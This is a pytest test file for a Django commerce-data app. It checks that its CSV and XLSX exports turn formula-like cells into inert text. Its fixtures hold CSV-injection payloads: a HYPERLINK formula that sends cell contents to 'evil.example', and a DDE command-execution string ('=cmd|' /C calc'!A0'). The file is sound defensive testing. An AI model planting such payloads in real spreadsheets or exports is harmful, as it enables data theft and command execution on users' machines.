"""No export lets a cell become a live formula (issue 13 item 5): text starting with = + - @
tab or CR is written as text (a leading apostrophe in CSV, a string cell in XLSX); numbers —
negative amounts too — stay numbers. One test per export path that carried formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from guanxi.accounts.models import Agent
from guanxi.imports import services
from guanxi.imports.models import ImportRun
from guanxi.lake import Lake
from guanxi.web.exports.safe import ExcelText, csv_text, safe_cell
from guanxi.web.exports.xlsx import Column, Sheet, workbook
from tests.imports.exports import PAID, TWO_ORDERS, taobao_row, write_taobao_orders

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点我领券")'
# A review's own formula: the buyer's name (LINK, above) inside a review is masked as the
# personal data it is before any writer sees it.
REVIEW_LINK = '=HYPERLINK("http://evil.example/r","好评返现")'
QUOTED_LINK = '"' + LINK.replace('"', '""') + '"'  # as a CSV cell
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def live_formulas(text: str) -> list[str]:
    """The cells of CSV ``text`` that a spreadsheet would run as formulas (the platforms'
    ``="digits"`` id wrapper excepted)."""
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")))
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
        and not PLAIN_NUMBER.fullmatch(cell)
        and not re.fullmatch(r'="[0-9A-Za-z_-]+"', cell)
    ]


def xlsx_parts(content: bytes) -> tuple[str, str]:
    """(the first sheet's XML, the shared strings' XML) of a workbook."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    return sheet, strings


def test_text_is_neutralised_and_numbers_stay_numbers() -> None:
    cells = [LINK, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "好评", "-12.50", "+3", "", None]
    assert [safe_cell(c) for c in cells] == [
        "'" + LINK,
        "+1",  # just a number: nothing to run
        "'-1+2",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "好评",
        "-12.50",
        "+3",
        "",
        None,
    ]
    assert [safe_cell(v) for v in (Decimal("-12.50"), -3, 1.5)] == [Decimal("-12.50"), -3, 1.5]
    assert safe_cell(ExcelText("2407181234567890123")) == '="2407181234567890123"'
    assert safe_cell(ExcelText('1"&HYPERLINK("x")&"')) == '1"&HYPERLINK("x")&"'
    assert safe_cell(ExcelText("=1+1")) == "'=1+1"
    assert csv_text([["a", "=1"]]) == "\ufeffa,'=1\r\n"


def test_workbook_writes_text_as_strings_and_negative_amounts_as_numbers() -> None:
    content = workbook(
        [
            Sheet(
                name="S",
                title="=1+1",
                columns=[Column("=A1"), Column("金额", "money")],
                rows=[[LINK, Decimal("-12.50")]],
                notes=["@note"],
            )
        ]
    )
    sheet, strings = xlsx_parts(content)
    assert "<f>" not in sheet
    assert "HYPERLINK" in strings and "=1+1" in strings and "@note" in strings
    assert "<v>-12.5</v>" in sheet


# --- the import's report.csv and rejects.csv ---------------------------------------------


@pytest.mark.django_db
def test_import_report_and_rejects_neutralise_the_file_values(tmp_path: Path, lake: Lake) -> None:
    bad = taobao_row("2407181234567890125", "@tb_x", "=1+2", PAID, "2024-06-18 10:00:00",
                     name=QUOTED_LINK)  # fmt: skip
    path = write_taobao_orders(tmp_path / "bad.csv", [TWO_ORDERS[1], bad], encoding="utf-8")
    with pytest.raises(SystemExit):
        call_command("import", "orders", str(path), "--format", "json", stdout=StringIO())
    folder = services.workdir(ImportRun.objects.get())
    # What the web download writes, decrypted from the run's encrypted files.
    report = "".join(services.report_lines(folder))
    rejects = "".join(services.rejects_lines(folder))
    assert live_formulas(report) == [] and live_formulas(rejects) == []
    report_rows = list(csv.reader(io.StringIO(report)))
    assert [r[3] for r in report_rows[1:]] == ["'=1+2"]
    reject_cells = next(csv.reader(io.StringIO(rejects.splitlines()[1])))
    assert {"'=1+2", "'@tb_x", "'" + LINK} <= set(reject_cells)
    # The command line wrote the same report beside the imported file.
    beside = (tmp_path / "bad.csv-report.csv").read_text(encoding="utf-8-sig")
    assert beside.splitlines() == report.splitlines()


# --- `guanxi report agents --format csv`, agents and teams --------------------------------


def _chats_with_a_hostile_agent(tmp_path: Path) -> None:
    chats = tmp_path / "chats.csv"
    with chats.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["会话", "客户", "客服", "发送方", "时间", "内容"])
        writer.writerow(["s1", "tb_小王", "", "客户", "2024-06-18 10:00:00", "在吗"])
        writer.writerow(["s1", "tb_小王", LINK, "客服", "2024-06-18 10:00:20", "在的亲"])
    call_command("import", "chats", str(chats), "--format", "json", stdout=StringIO())


@pytest.mark.django_db
def test_report_agents_csv_neutralises_agent_ids_and_team_names(tmp_path: Path, lake: Lake) -> None:
    _chats_with_a_hostile_agent(tmp_path)
    Agent.objects.update_or_create(agent_id=LINK, defaults={"team": "@SUM(1+1)"})
    period = ["--from", "2024-06-18", "--to", "2024-06-18", "--format", "csv"]
    texts = {}
    for view in ("agent", "team"):
        out = StringIO()
        call_command("report", "agents", *period, "--view", view, stdout=out)
        texts[view] = out.getvalue()
        assert live_formulas(texts[view]) == [], view
    assert [r[0] for r in csv.reader(io.StringIO(texts["agent"]))][1:] == ["'" + LINK]
    assert [r[0] for r in csv.reader(io.StringIO(texts["team"]))][1:] == ["'@SUM(1+1)"]


# --- `guanxi scorecard --format csv|xlsx` -------------------------------------------------


def _metrics_file(tmp_path: Path) -> Path:
    path = tmp_path / "metrics.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["agent", "payment_rate", "aov_ratio"])
        writer.writerow([LINK, "0.5", "-3"])
    return path


CARD = """name = "=1+1"
[[items]]
metric = "payment_rate"
label = "=cmd|' /C calc'!A0"
weight = "50%"
bands = { "[0.5, )" = 100, "(, 0.5)" = 0 }
[[items]]
metric = "aov_ratio"
label = "落实客单价"
weight = "50%"
bands = { "(, )" = 50 }
"""


@pytest.mark.django_db
def test_scorecard_csv_and_xlsx_have_no_live_formulas(tmp_path: Path) -> None:
    config = tmp_path / "card.toml"
    config.write_text(CARD, encoding="utf-8")
    common = ["--metrics", str(_metrics_file(tmp_path)), "--config", str(config)]
    out = StringIO()
    call_command("scorecard", *common, "--format", "csv", stdout=out)
    assert live_formulas(out.getvalue()) == []
    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
    assert rows[0][1] == "'=cmd|' /C calc'!A0 payment_rate" and rows[1][0] == "'" + LINK

    target = tmp_path / "kpi.xlsx"
    call_command("scorecard", *common, "--format", "xlsx", "--output", str(target), stdout=out)
    sheet, strings = xlsx_parts(target.read_bytes())
    assert "<f>" not in sheet  # no cell is a formula
    assert '<t>=HYPERLINK("http://evil.example/?"&amp;A1,"点我领券")</t>' in strings
    assert "<v>-3</v>" in sheet  # the negative value is a number


# --- `guanxi export taobao` ----------------------------------------------------------------


def _write(path: Path, rows: list[list[Any]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


@pytest.mark.django_db
def test_taobao_export_neutralises_names_chats_reviews_and_reasons(
    tmp_path: Path, lake: Lake
) -> None:
    order = taobao_row('="2407181234567890123"', "tb_小王", "12.50", PAID,
                       "2024-06-18 10:00:00", "2024-06-18 10:01:00", name=QUOTED_LINK,
                       address="@SUM(A1) 杭州市")  # fmt: skip
    inputs = {
        "orders": write_taobao_orders(tmp_path / "o.csv", [order], encoding="utf-8"),
        "refunds": _write(
            tmp_path / "r.csv",
            [
                ["退款编号", "订单编号", "买家会员名", "退款的申请时间", "退款完结时间",
                 "售后类型", "退款原因", "是否质量问题", "买家退款金额", "退款状态"],
                ["R1", "2407181234567890123", "tb_小王", "2024-06-19 10:00:00", "",
                 "仅退款", "-1+1 不想要了", "否", "12.50", "退款中"],
            ],
        ),
        "chats": _write(
            tmp_path / "c.csv",
            [
                ["会话", "客户", "客服", "发送方", "时间", "内容"],
                ["s1", "tb_小王", "", "客户", "2024-06-18 10:00:00", "=1+1"],
                ["s1", "tb_小王", "小美", "客服", "2024-06-18 10:00:20", "\t=2+2"],
            ],
        ),
        "reviews": _write(
            tmp_path / "v.csv",
            [
                ["评价编号", "订单编号", "宝贝ID", "买家会员名", "评价时间", "评分", "评价内容"],
                ["v1", "2407181234567890123", "p1", "tb_小王", "2024-06-20 10:00:00", "5",
                 REVIEW_LINK],
            ],
        ),
    }  # fmt: skip
    for kind, path in inputs.items():
        call_command("import", kind, str(path), "--format", "json", stdout=StringIO())
    assert sorted(m["text"] for m in lake.to_arrow("chat_messages").to_pylist()) == [
        "=1+1",
        "=2+2",  # the importer trims the tab
    ]

    folder = tmp_path / "export"
    call_command("export", "taobao", "--to", str(folder), stdout=StringIO())
    texts = {p.name: p.read_text(encoding="gb18030") for p in folder.glob("*.csv")}
    assert {name: live_formulas(text) for name, text in texts.items()} == {
        name: [] for name in texts
    }
    assert "'" + LINK in next(csv.reader([texts["订单报表.csv"].splitlines()[1]]))
    assert "'@SUM(A1) 杭州市" in texts["订单报表.csv"]
    assert '"=""2407181234567890123"""' in texts["订单报表.csv"]  # ids stay text for Excel
    assert "'-1+1 不想要了" in texts["退款报表.csv"]
    assert texts["聊天记录.csv"].splitlines()[1:] == [
        "s1,tb_小王,,客户,2024-06-18 10:00:00,'=1+1",
        "s1,tb_小王,小美,客服,2024-06-18 10:00:20,'=2+2",
    ]
    assert "'" + REVIEW_LINK in next(csv.reader([texts["评价.csv"].splitlines()[1]]))

    # The importer reads the apostrophe away: the exported chats re-import unchanged.
    out = StringIO()
    call_command("import", "chats", str(folder / "聊天记录.csv"), "--format", "json", stdout=out)
    assert '"unchanged": 2' in out.getvalue() and '"added": 0' in out.getvalue()
